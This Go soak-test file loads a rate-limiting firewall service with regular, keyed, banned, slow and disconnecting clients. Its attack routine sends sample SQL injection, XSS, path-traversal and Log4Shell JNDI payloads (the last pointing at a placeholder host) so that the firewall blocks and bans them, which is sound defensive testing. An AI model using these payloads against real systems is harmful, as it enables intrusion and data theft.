package soak_test

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"math/rand/v2"
	"net/url"
	"strings"
	"sync/atomic"
	"time"
)

// Of the configuration.
const (
	exactly = 20 // requests of a client pass /exact, within an hour
	granted = 15 // requests of a key pass, within a day
	places  = 4  // requests of a client are at /slots at once
)

// pause waits, and reports whether life goes on.
func pause(life context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-life.Done():
		return false
	case <-t.C:
		return true
	}
}

// between is a time from least to most.
func between(dice *rand.Rand, least, most time.Duration) time.Duration {
	return least + time.Duration(dice.Int64N(int64(most-least)+1))
}

// tread asks as many different clients do, one request each, with a few regulars among them: rate requests a second, or as fast as
// answers come if it is 0.
func (c *crowd) tread(life context.Context, rate float64) {
	l := c.line()
	defer l.close()
	next := time.Now()
	for i := 0; life.Err() == nil; i++ {
		l.ask(c.common(i))
		if rate == 0 {
			continue
		}
		next = next.Add(time.Duration(float64(time.Second) / rate))
		wait := time.Until(next)
		if wait < -time.Second {
			next = time.Now() // what could not be asked in time is not made up for
		}
		if wait > 0 && !pause(life, wait) {
			return
		}
	}
}

const regulars = 40

// common is the i-th request of a line.
func (c *crowd) common(i int) question {
	switch {
	case i%10 == 0:
		return question{who: "regular", client: fmt.Sprintf("10.9.0.%d", rand.IntN(regulars)), path: "/catalogue?page=" + fmt.Sprint(i)}
	case i%16 == 1:
		return question{who: "fresh", client: c.fresh(), method: "POST", path: "/orders", body: order}
	}
	return question{who: "fresh", client: c.fresh(), path: "/catalogue/" + fmt.Sprint(i)}
}

// order is a body to inspect, of about 8 KB.
var order = `{"lines": [` + strings.Repeat(`{"article": "a blue kettle, and its lid", "pieces": 3, "note": "ring twice"}, `, 100) + `{}]}`

// A ledger is what one client was answered at a limit of most that Redis alone counts.
type ledger struct{ passed, limited, uncounted int }

func (g *ledger) note(k kind) {
	switch k {
	case passed:
		g.passed++
	case limited:
		g.limited++
	case uncounted:
		g.uncounted++
	}
}

// fault says what is wrong with g, if anything: more may never pass than the limit; and once it refuses, as many passed,
// but for those whose answer Redis may have counted and not been able to give.
func (g ledger) fault(most int) string {
	switch {
	case g.passed > most:
		return fmt.Sprintf("%+v: more than %d passed", g, most)
	case g.limited > 0 && g.passed+g.uncounted < most:
		return fmt.Sprintf("%+v: it refused before %d had passed", g, most)
	}
	return ""
}

// judged is how many ledgers were looked at: those whose every request Redis counted, and those of which only some.
type judged struct {
	exact, partly atomic.Int64
}

func (s *soak) judge(what string, g ledger, most int) {
	if fault := g.fault(most); fault != "" {
		s.t.Errorf("%s: %s", what, fault)
	}
	if g.uncounted > 0 {
		s.judged.partly.Add(1)
		return
	}
	s.judged.exact.Add(1)
}

// exact has one fresh client after the other use up a limit, over a time in which Redis may come and go.
func (s *soak) exact(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for s.life.Err() == nil {
		var g ledger
		client := s.crowd.fresh()
		for range exactly + 5 {
			g.note(l.ask(question{who: "exact", client: client, path: "/exact"}))
			pause(s.life, between(dice, 0, s.plan.step))
		}
		s.judge("client "+client, g, exactly)
	}
}

// keyed has one new API key after the other use up its quota, and be revoked.
func (s *soak) keyed(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for n := 0; s.life.Err() == nil; n++ {
		var key struct{ ID, Secret string }
		if status := s.house.api("POST", "/api/v1/keys", fmt.Sprintf(`{"name": "soak %d", "plan": "soak"}`, n), &key); status != 201 {
			s.t.Errorf("a key was answered %d", status)
			return
		}
		var g ledger
		day := time.Now().UTC().Day()
		for range granted + 5 {
			g.note(l.ask(question{who: "keyed", client: s.crowd.fresh(), path: "/keyed", key: key.Secret}))
			pause(s.life, between(dice, 0, s.plan.step))
		}
		if day == time.Now().UTC().Day() {
			s.judge("key "+key.ID, g, granted)
		}
		if status := s.house.api("DELETE", "/api/v1/keys/"+key.ID, "", nil); status != 200 {
			s.t.Errorf("revoking a key was answered %d", status)
		}
		s.await("a revoked key is refused", func() bool {
			return l.ask(question{who: "revoked", client: s.crowd.fresh(), path: "/keyed", key: key.Secret}) == keyless
		})
	}
}

// slots asks for more places than a client has. Several do so at once.
func (s *soak) slots(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for pause(s.life, between(dice, 0, 4*s.plan.step)) {
		l.ask(question{who: "slots", client: "10.8.0.1", path: "/slots"})
	}
}

// attackers are few, so that a penalty bans them for a while now and then.
const attackers = 5

// attack sends what the firewall blocks, from few addresses, which a penalty bans for a while.
func (s *soak) attack(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for pause(s.life, between(dice, 0, s.plan.step)) {
		payload := []string{"1' OR '1'='1' -- ", "<script>alert(1)</script>", "../../../../etc/passwd", "${jndi:ldap://x.example/a}"}[dice.IntN(4)]
		l.ask(question{who: "attacker", client: fmt.Sprintf("198.51.100.%d", dice.IntN(attackers)), path: "/search?q=" + url.QueryEscape(payload)})
	}
}

// outcast is banned by the operator, notices, and is let in again. While Redis is away no ban is taken, and none lifted.
func (s *soak) outcast(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for pause(s.life, between(dice, 0, 20*s.plan.step)) {
		client := s.crowd.fresh()
		q := question{who: "outcast", client: client, path: "/"}
		subject, _ := json.Marshal(client) // a string
		s.await("a ban is taken", func() bool {
			return s.house.api("POST", "/api/v1/bans", `{"subject": `+string(subject)+`, "for": "1h"}`, nil) == 201
		})
		s.await("a banned client is refused", func() bool { return l.ask(q) == banned })
		s.await("a ban is lifted", func() bool {
			return s.house.api("DELETE", "/api/v1/bans/"+url.PathEscape(client), "", nil) == 200
		})
		s.await("a client whose ban is lifted passes", func() bool { return l.ask(q) == passed })
	}
}

// slow takes a large answer bit by bit, for some seconds.
func (s *soak) slow(dice *rand.Rand) {
	l := s.crowd.line()
	defer l.close()
	for pause(s.life, between(dice, 0, s.plan.step)) {
		l.hear(question{who: "slow", client: s.crowd.fresh(), path: "/large"}, func(body io.Reader) ([]byte, error) {
			for {
				_, err := io.CopyN(io.Discard, body, large/50)
				if err == io.EOF {
					return nil, nil
				}
				if err != nil {
					return nil, err
				}
				pause(s.life, s.plan.step/2)
			}
		})
	}
}

// quit goes away in the middle of a request, or of the answer, and with a place in hand.
func (s *soak) quit(dice *rand.Rand) {
	for pause(s.life, between(dice, 0, s.plan.step)) {
		l := s.crowd.line()
		q := question{who: "quitter", client: s.crowd.fresh(), path: "/large"}
		began, k, err := time.Now(), leftTold, error(nil)
		switch dice.IntN(3) {
		case 0:
			q.path, q.method, k = "/orders", "POST", leftAsk
			q.body = order
			text := q.text()
			err = l.send(text[:len(text)-1-dice.IntN(len(order)-1)])
		case 1:
			q.path, q.client, k = "/slots", "10.8.0.2", leftAsk
			err = l.send(q.text())
			pause(s.life, between(dice, 0, held))
		default:
			if err = l.send(q.text()); err == nil {
				_, err = io.CopyN(io.Discard, l.from, 1+dice.Int64N(large/2))
			}
		}
		l.close()
		if err != nil {
			k = kind("cannot ask: " + err.Error())
		}
		s.crowd.note(q.who, k, time.Since(began))
	}
}
